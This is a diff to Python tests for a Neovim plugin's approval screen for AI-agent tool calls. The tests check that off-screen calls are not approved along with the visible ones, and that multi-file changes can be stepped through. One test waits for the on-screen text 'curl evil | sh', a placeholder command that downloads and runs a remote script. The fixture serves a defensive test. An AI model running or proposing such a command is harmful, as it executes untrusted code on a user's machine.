@@ -249,16 +249,16 @@ def test_what_was_not_on_the_screen_is_counted_and_not_allowed_with_the_others(
         if number == 5:
             assert "1 more file " in screen
         stage.lua("require('eca.host').sent = {}")
-        approve = "return (require('eca.approval').accept_all(...))"
+        approve = "require('eca.approval').accept_all(...)"
         if not whole:
-            assert stage.lua(approve, CHAT) == 0
+            stage.lua(approve, CHAT)
             assert sent(stage, "decide") == []
         if number < 2:
             stage.keys("gg" + "<C-e>" * 250)
             stage.wait_screen("curl evil | sh")
             screen = stage.wait_screen(lambda it: "more rows" not in it)
         if number not in (3, 5):
-            assert stage.lua(approve, CHAT) == 1
+            stage.lua(approve, CHAT)
             assert sent(stage, "decide") == [answer_to(call, choice="allow")]
         draw(stage, ["pending", []])
         stage.command("silent! tabonly | silent! tabfirst")
@@ -331,8 +331,8 @@ def test_each_file_of_a_call_has_its_turn(stage: Neovim, workspace: Path) -> Non
     assert "a A r R ]f [f q" in screen
     stage.keys("]f")
     assert wait_sent(stage, "diff") == [{"chat": CHAT, "block": BLOCK, "file": 1}]
-    screen = show(stage, workspace / "other.txt", file=second)
-    assert "other.txt  2/2  now" in screen
+    show(stage, workspace / "other.txt", file=second)
+    stage.wait_screen("other.txt  2/2  now")
     assert stage.eval("tabpagenr('$')") == 2
     stage.keys("[f")
     assert wait_sent(stage, "diff", 2)[-1]["file"] == 0
